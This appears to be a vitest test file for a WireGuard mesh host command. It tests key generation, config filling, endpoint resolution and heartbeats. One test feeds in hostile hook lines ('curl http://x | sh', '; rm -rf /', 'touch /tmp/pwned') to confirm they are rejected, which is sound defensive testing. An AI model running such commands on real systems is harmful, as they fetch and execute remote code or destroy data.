import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sqlDatabases } from '@agentinfra/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  fillPrivateKey,
  generateHostKeyPair,
  MeshCallError,
  MeshHostError,
  meshConnection,
  parseInterval,
  publicKeyOf,
  resolvePeerEndpoints,
  runMeshHeartbeat,
  runWgConfig,
} from './host/index.js';
import { configPeers, configValues, type MeshTestServer, startMeshTestServer } from './test-support/mesh-test-server.js';

const modeOf = async (path: string) => (await stat(path)).mode & 0o777;

/** Waits until `check` holds, polling every 20 ms for up to `ms`. */
async function eventually(check: () => Promise<boolean>, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error('condition not reached in time');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe('host command pieces', () => {
  it('parses intervals', () => {
    expect(parseInterval('30s', '--every')).toBe(30_000);
    expect(parseInterval('5m', '--every')).toBe(300_000);
    expect(parseInterval('1h', '--every')).toBe(3_600_000);
    expect(parseInterval('250ms', '--every')).toBe(250);
    expect(parseInterval('45', '--every')).toBe(45_000);
    for (const bad of ['', 'soon', '10 s', '-5s', '50ms', '1.5s']) expect(() => parseInterval(bad, '--every')).toThrow(MeshHostError);
  });

  it('derives the public key of a private key the way it was generated', () => {
    for (let i = 0; i < 20; i += 1) {
      const pair = generateHostKeyPair();
      expect(pair.privateKey).toMatch(/^[A-Za-z0-9+/]{43}=$/);
      expect(publicKeyOf(pair.privateKey, 'test')).toBe(pair.publicKey);
    }
    expect(() => publicKeyOf('short', 'key.txt')).toThrow(/key\.txt does not hold a WireGuard private key/);
  });

  it('fills PrivateKey in [Interface] only, and refuses hooks other than nft commands', () => {
    const text = "[Interface]\nPrivateKey = AGENTINFRA_PRIVATE_KEY\nPostUp = nft 'add table inet x'\n\n[Peer]\nPublicKey = k\n";
    expect(fillPrivateKey(text, 'SECRET=')).toBe(
      "[Interface]\nPrivateKey = SECRET=\nPostUp = nft 'add table inet x'\n\n[Peer]\nPublicKey = k\n",
    );
    for (const hook of [
      'PostUp = curl http://x | sh',
      "PostUp = nft 'x'; rm -rf /",
      "PreUp = nft 'a' 'b'",
      'PostDown = nft list ruleset',
      // Review: wg-quick matches keys with nocasematch, so these run as root like PostUp does.
      'POSTUP = touch /tmp/pwned',
      'postup=curl http://x | sh',
      '  PreDown   =  touch /tmp/pwned',
    ]) {
      expect(() => fillPrivateKey(text.replace("PostUp = nft 'add table inet x'", hook), 'K=')).toThrow(/not an nftables command/);
    }
    expect(() => fillPrivateKey('[Interface]\nAddress = 1.2.3.4/32\n', 'K=')).toThrow(/0 PrivateKey lines/);
    expect(() => fillPrivateKey('[Peer]\nPrivateKey = x\n', 'K=')).toThrow(/0 PrivateKey lines/);
    expect(fillPrivateKey("[INTERFACE]\nprivatekey = X\nPostUp = nft 'add table inet x' # comment\n", 'K=')).toBe(
      "[INTERFACE]\nPrivateKey = K=\nPostUp = nft 'add table inet x' # comment\n",
    );
  });

  it('writes the address of each endpoint name that resolves, leaves out the others, and looks each name up once', async () => {
    const peer = (name: string, endpoint: string) => ['[Peer]', `# ${name}`, `Endpoint = ${endpoint}`, ''];
    const text = [
      '[Interface]',
      'ListenPort = 51820',
      '',
      ...peer('bob', 'bob.example:51820'),
      ...peer('carol', 'gone.example:51821'),
      ...peer('dora', 'gone.example:51822'),
      ...peer('erin', '192.0.2.7:51820'),
      ...peer('frank', '[2001:db8::1]:51820'),
      ...peer('gina', 'v6.example:51823'),
    ].join('\n');
    const asked: string[] = [];
    const resolve = async (host: string) => {
      asked.push(host);
      if (host === 'gone.example') throw Object.assign(new Error('getaddrinfo ENOTFOUND gone.example'), { code: 'ENOTFOUND' });
      return host === 'v6.example'
        ? [{ address: '2001:db8::7', family: 6 }]
        : [
            { address: '198.51.100.1', family: 4 },
            { address: '198.51.100.2', family: 4 },
          ];
    };
    const { text: written, dropped } = await resolvePeerEndpoints(text, resolve);
    expect(asked.sort()).toEqual(['bob.example', 'gone.example', 'v6.example']);
    expect(dropped).toEqual([
      { peer: 'carol', endpoint: 'gone.example:51821', reason: 'ENOTFOUND' },
      { peer: 'dora', endpoint: 'gone.example:51822', reason: 'ENOTFOUND' },
    ]);
    expect(written).toBe(
      text
        .replace('Endpoint = bob.example:51820', 'Endpoint = 198.51.100.1:51820')
        .replace('Endpoint = gone.example:51821\n', '')
        .replace('Endpoint = gone.example:51822\n', '')
        .replace('Endpoint = v6.example:51823', 'Endpoint = [2001:db8::7]:51823'),
    );
    expect(await resolvePeerEndpoints(written, resolve)).toEqual({ text: written, dropped: [] });
    // Rotating answers: the address the file already gives bob is kept while the name still has it.
    const before = written.replace('198.51.100.1:51820', '198.51.100.2:51820');
    expect((await resolvePeerEndpoints(text, resolve, before)).text).toBe(before);
  });

  // A server from before zone ids were refused may still hand out `[fe80::1%nosuchif0]:51820`; wg refuses the whole file for it.
  it('leaves out an Endpoint that wg could not parse (a stored zone id), like a name that does not resolve, and looks nothing up for it', async () => {
    const peer = (name: string, endpoint: string) => ['[Peer]', `# ${name}`, `Endpoint = ${endpoint}`, ''];
    const text = [
      '[Interface]',
      'ListenPort = 51820',
      '',
      ...peer('mallory', '[fe80::1%nosuchif0]:51820'),
      ...peer('oscar', '[::1%x]:1'),
      ...peer('peggy', '[fe80::1%25eth0]:51821'),
      ...peer('erin', '192.0.2.7:51820'),
      ...peer('frank', '[2001:db8::1]:51820'),
    ].join('\n');
    const asked: string[] = [];
    const resolve = async (host: string) => {
      asked.push(host);
      return [{ address: '198.51.100.1', family: 4 }];
    };
    const { text: written, dropped } = await resolvePeerEndpoints(text, resolve);
    expect(asked).toEqual([]);
    expect(dropped).toEqual([
      { peer: 'mallory', endpoint: '[fe80::1%nosuchif0]:51820', reason: 'invalid' },
      { peer: 'oscar', endpoint: '[::1%x]:1', reason: 'invalid' },
      { peer: 'peggy', endpoint: '[fe80::1%25eth0]:51821', reason: 'invalid' },
    ]);
    expect(written).not.toContain('%');
    expect(configPeers(written).get('mallory')).toEqual({});
    expect(configPeers(written).get('erin')?.Endpoint).toBe('192.0.2.7:51820');
    expect(configPeers(written).get('frank')?.Endpoint).toBe('[2001:db8::1]:51820');
  });
});

describe.each(sqlDatabases())('agentinfra wg-config and mesh heartbeat against a server on $name', ({ create }) => {
  let t: MeshTestServer;
  let cleanup: () => Promise<void>;
  let dir: string;
  const lines: string[] = [];
  const log = (line: string) => void lines.push(line);

  beforeAll(async () => {
    const fixture = await create();
    cleanup = fixture.cleanup;
    t = await startMeshTestServer({ db: fixture.db });
    dir = await mkdtemp(join(tmpdir(), 'agentinfra-wg-config-'));
  });

  afterAll(async () => {
    await t?.server.stop();
    await cleanup?.();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('generates a key pair (0600), registers its public key and writes the filled-in config (0600) atomically', async () => {
    const privateKeyFile = join(dir, 'keys', 'alice.key');
    const out = join(dir, 'wireguard', 'agent0.conf');
    const result = await runWgConfig({ url: t.server.url, key: t.keys.alice, privateKeyFile, out, endpoint: '10.0.0.1:51820', log });
    expect(result).toMatchObject({ file: out, generated: true, changed: true, peers: 0, address: expect.stringMatching(/^100\./) });
    const privateKey = (await readFile(privateKeyFile, 'utf8')).trim();
    expect(await modeOf(privateKeyFile)).toBe(0o600);
    expect(publicKeyOf(privateKey, privateKeyFile)).toBe(result.publicKey);
    const self = (await t.mesh('netmap', {}, 'alice')).body.self;
    expect(self).toMatchObject({ pubkey: result.publicKey, endpoint: '10.0.0.1:51820', address: result.address });

    const config = await readFile(out, 'utf8');
    expect(await modeOf(out)).toBe(0o600);
    expect(configValues(config, 'PrivateKey')).toEqual([privateKey]);
    expect(configValues(config, 'ListenPort')).toEqual(['51820']);
    expect(config).not.toContain('AGENTINFRA_PRIVATE_KEY');
    expect(await readdir(join(dir, 'wireguard'))).toEqual(['agent0.conf']);
    expect(await readdir(join(dir, 'keys'))).toEqual(['alice.key']);
    expect(lines.join('\n')).not.toContain(privateKey);
    expect(lines.join('\n')).not.toContain(t.keys.alice);
  });

  it('reuses the key, rewrites only when the config changed, and takes the device key from AGENTINFRA_KEY', async () => {
    const privateKeyFile = join(dir, 'keys', 'alice.key');
    const out = join(dir, 'wireguard', 'agent0.conf');
    const before = await stat(out);
    const env = { AGENTINFRA_KEY: t.keys.alice };
    const same = await runWgConfig({ url: `${t.server.url}/functions/v1/`, env, privateKeyFile, out, log });
    expect(same).toMatchObject({ generated: false, changed: false, peers: 0 });
    expect((await stat(out)).mtimeMs).toBe(before.mtimeMs);

    await runWgConfig({
      url: t.server.url,
      key: t.keys.bob,
      privateKeyFile: join(dir, 'keys', 'bob.key'),
      out: join(dir, 'bob.conf'),
      endpoint: '10.0.0.2:51820',
      log,
    });
    expect((await t.mesh('acl/put', { from_agent: 'bob', to_agent: 'alice', proto: 'tcp', port: 22 }, 'alice')).status).toBe(200);
    const changed = await runWgConfig({ url: t.server.url, env, privateKeyFile, out, log });
    expect(changed).toMatchObject({ changed: true, peers: 1 });
    const bobKey = (await readFile(join(dir, 'keys', 'bob.key'), 'utf8')).trim();
    expect(configPeers(await readFile(out, 'utf8')).get('bob')?.PublicKey).toBe(publicKeyOf(bobKey, 'bob.key'));
  });

  it('keeps watching: rewrites when an ACL appears and stops on abort', async () => {
    const out = join(dir, 'watch.conf');
    const controller = new AbortController();
    const watching = runWgConfig({
      url: t.server.url,
      key: t.keys.carol,
      privateKeyFile: join(dir, 'keys', 'carol.key'),
      out,
      endpoint: '10.0.0.3:51820',
      watch: '100ms',
      signal: controller.signal,
      log,
    });
    await eventually(async () => (await readFile(out, 'utf8').catch(() => '')).includes('[Interface]'));
    expect(configPeers(await readFile(out, 'utf8')).size).toBe(0);
    expect((await t.mesh('acl/put', { from_agent: 'alice', to_agent: 'carol', proto: 'icmp', port: 0 }, 'carol')).status).toBe(200);
    await eventually(async () => configPeers(await readFile(out, 'utf8')).has('alice'));
    controller.abort();
    const result = await watching;
    expect(result.peers).toBe(1);
    expect(await modeOf(out)).toBe(0o600);
  });

  // Walkthrough: `wg-config --watch` on a host whose file was already current printed nothing, so the user could not tell it ran.
  it('says so when the first pass of a watch finds the file current, then keeps watching', async () => {
    await t.createAgents('wendy');
    const options = {
      url: t.server.url,
      key: t.bridge.credential,
      agent: 'wendy',
      privateKeyFile: join(dir, 'keys', 'wendy.key'),
      out: join(dir, 'wendy.conf'),
      log,
    };
    expect(await runWgConfig({ ...options, endpoint: '10.0.0.5:51820' })).toMatchObject({ changed: true, peers: 0 });
    const before = lines.length;
    const controller = new AbortController();
    const watching = runWgConfig({ ...options, watch: '100ms', signal: controller.signal });
    const said = `${options.out} unchanged (0 peers); watching for changes every 100ms`;
    await eventually(async () => lines.slice(before).includes(said));
    // The later passes find it current too, and stay quiet.
    await new Promise((resolve) => setTimeout(resolve, 300));
    controller.abort();
    expect(await watching).toMatchObject({ changed: false, peers: 0 });
    expect(lines.slice(before)).toEqual([said]);
  });

  it('writes a peer whose endpoint name does not resolve without its Endpoint, which wg would refuse the whole file for', async () => {
    // mallory registers a name that never resolves (RFC 6761 .invalid) and grants herself a place in alice's config.
    await t.register('mallory', 'mallory.agentinfra.invalid:51820');
    const granted = await t.mesh('acl/put', { from_agent: 'alice', to_agent: 'mallory', proto: 'tcp', port: 80 }, t.bridge);
    expect(granted.status).toBe(200);
    const out = join(dir, 'wireguard', 'agent0.conf');
    const before = lines.length;
    const result = await runWgConfig({ url: t.server.url, key: t.keys.alice, privateKeyFile: join(dir, 'keys', 'alice.key'), out, log });
    const peers = configPeers(await readFile(out, 'utf8'));
    expect(result.peers).toBe(peers.size);
    expect(peers.get('mallory')?.PublicKey).toBeDefined();
    expect(peers.get('mallory')?.Endpoint).toBeUndefined();
    expect(peers.get('carol')?.Endpoint).toBe('10.0.0.3:51820');
    expect(lines.slice(before).join('\n')).toMatch(
      /peer mallory: its endpoint mallory\.agentinfra\.invalid:51820 does not resolve here \((ENOTFOUND|EAI_AGAIN)\); written without Endpoint/,
    );
  });

  it('acts for agent_id with the bridge key', async () => {
    await t.register('dora');
    const pair = generateHostKeyPair();
    const privateKeyFile = join(dir, 'keys', 'dora.key');
    await writeFile(privateKeyFile, `${pair.privateKey}\n`, { mode: 0o600 });
    const result = await runWgConfig({
      url: t.server.url,
      key: t.bridge.credential,
      agent: 'dora',
      privateKeyFile,
      out: join(dir, 'dora.conf'),
      endpoint: '10.0.0.4:51820',
      log,
    });
    expect(result.publicKey).toBe(pair.publicKey);
    expect((await t.mesh('netmap', { agent_id: 'dora' }, t.bridge)).body.self.pubkey).toBe(pair.publicKey);
  });

  it('still reads the key from AGENTINFRA_DEVICE_KEY, its name before AGENTINFRA_KEY', () => {
    expect(meshConnection({ url: t.server.url, env: { AGENTINFRA_DEVICE_KEY: 'dk_old' } }).key).toBe('dk_old');
    expect(meshConnection({ url: t.server.url, env: { AGENTINFRA_KEY: 'dk_new', AGENTINFRA_DEVICE_KEY: 'dk_old' } }).key).toBe('dk_new');
  });

  it('refuses bad options with exit code 2 before touching anything', async () => {
    const privateKeyFile = join(dir, 'keys', 'nobody.key');
    const attempts: Array<[Parameters<typeof runWgConfig>[0], RegExp]> = [
      [{ url: t.server.url, env: {}, privateKeyFile, endpoint: '10.0.0.9:1' }, /AGENTINFRA_KEY/],
      [{ url: 'not a url', key: t.keys.alice, privateKeyFile, endpoint: '10.0.0.9:1' }, /--url/],
      [{ url: 'ftp://x', key: t.keys.alice, privateKeyFile, endpoint: '10.0.0.9:1' }, /--url/],
      [{ url: t.server.url, key: t.keys.alice, privateKeyFile, endpoint: '10.0.0.9:1', watch: 'often' }, /--watch/],
      [{ url: t.server.url, key: t.keys.alice, privateKeyFile }, /does not exist: pass --endpoint/],
    ];
    for (const [options, message] of attempts) {
      const error = await runWgConfig({ ...options, out: join(dir, 'never.conf'), log }).catch((caught: unknown) => caught);
      expect(error).toBeInstanceOf(MeshHostError);
      expect((error as MeshHostError).exitCode).toBe(2);
      expect((error as MeshHostError).message).toMatch(message);
    }
    await expect(stat(privateKeyFile)).rejects.toThrow();
    await expect(stat(join(dir, 'never.conf'))).rejects.toThrow();
  });

  it('refuses a private key the server does not hold for the agent unless --endpoint re-registers it', async () => {
    const other = join(dir, 'keys', 'alice-other.key');
    await writeFile(other, `${generateHostKeyPair().privateKey}\n`, { mode: 0o600 });
    const error = await runWgConfig({
      url: t.server.url,
      key: t.keys.alice,
      privateKeyFile: other,
      out: join(dir, 'other.conf'),
      log,
    }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MeshHostError);
    expect((error as MeshHostError).message).toContain('another public key');
  });

  it('reports server refusals with the error code and never the key', async () => {
    const wrongKey = `dk_${'x'.repeat(43)}`;
    const error = await runWgConfig({
      url: t.server.url,
      key: wrongKey,
      privateKeyFile: join(dir, 'keys', 'alice.key'),
      out: join(dir, 'x.conf'),
      log,
    }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MeshCallError);
    expect((error as MeshCallError).status).toBe(401);
    expect((error as MeshCallError).message).toContain('unauthenticated');
    expect((error as MeshCallError).message).not.toContain(wrongKey);
    const unreachable = await runMeshHeartbeat({ url: 'http://127.0.0.1:9', key: t.keys.alice, log }).catch((caught: unknown) => caught);
    expect(unreachable).toBeInstanceOf(MeshCallError);
    expect((unreachable as MeshCallError).transient).toBe(true);
  });

  it('beats once, or every interval until stopped', async () => {
    const once = await runMeshHeartbeat({ url: t.server.url, key: t.keys.alice, log });
    expect(once).toMatchObject({ agent_id: 'alice', beats: 1, last_seen: expect.stringMatching(/Z$/) });
    const controller = new AbortController();
    const looping = runMeshHeartbeat({ url: t.server.url, key: t.keys.bob, every: '100ms', signal: controller.signal, log });
    const seen = new Set<string>();
    await eventually(async () => {
      seen.add((await t.mesh('netmap', {}, 'bob')).body.self.last_seen);
      return seen.size >= 5; // the last one seen may be a beat whose answer the abort cuts off
    });
    controller.abort();
    const result = await looping;
    expect(result.agent_id).toBe('bob');
    expect(result.beats).toBeGreaterThanOrEqual(3);
    const bob = (await t.mesh('netmap', {}, 'bob')).body.self;
    expect(Date.parse(bob.last_seen)).toBeGreaterThanOrEqual(Date.parse(result.last_seen));
  });

  it('ends the heartbeat loop when the server refuses (404: not registered)', async () => {
    const issued = await t.server.call('agent-identity/agents/create', { agent_id: 'unregistered', display_name: 'u' }, t.bridge);
    expect(issued.status).toBe(200);
    const device = await t.server.call('agent-identity/device/issue', { agent_id: 'unregistered', label: 'x' }, t.bridge);
    const error = await runMeshHeartbeat({ url: t.server.url, key: device.body.device_key, every: '100ms', log }).catch(
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(MeshCallError);
    expect((error as MeshCallError).status).toBe(404);
  });
});
